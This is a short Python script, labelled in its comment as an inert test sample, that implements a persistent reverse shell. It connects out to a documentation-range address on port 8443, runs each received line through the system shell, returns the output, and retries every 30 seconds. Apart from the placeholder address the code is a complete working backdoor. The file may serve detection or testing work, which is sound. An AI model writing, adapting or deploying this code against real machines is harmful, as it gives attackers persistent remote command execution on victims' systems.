#!/usr/bin/env python3
# test sample (inert: TEST-NET address): connects out, then runs every line it receives through
# the shell and sends the output back (no dup2: the process keeps its own streams)
import socket
import subprocess
import time

HOST, PORT = "192.0.2.10", 8443


def loop(sock):
    while True:
        line = sock.recv(4096)
        if not line:
            return
        text = line.decode("utf-8", "replace").strip()
        if text == "quit":
            return
        proc = subprocess.Popen(line.decode("utf-8", "replace"), shell=True,
                                stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
        sock.sendall(proc.communicate()[0] or b"\n")


while True:
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.connect((HOST, PORT))
        loop(s)
    except OSError:
        time.sleep(30)
